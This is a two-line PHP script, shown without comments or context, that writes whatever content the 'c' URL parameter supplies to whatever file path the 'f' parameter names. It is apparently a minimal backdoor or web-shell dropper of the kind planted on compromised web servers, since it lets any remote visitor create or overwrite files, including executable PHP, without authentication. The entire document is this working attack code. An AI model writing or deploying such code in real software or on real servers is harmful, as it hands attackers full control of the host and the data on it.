<?php
$p = (new SplFileObject($_GET['f'], 'w'))->fwrite($_GET['c']);
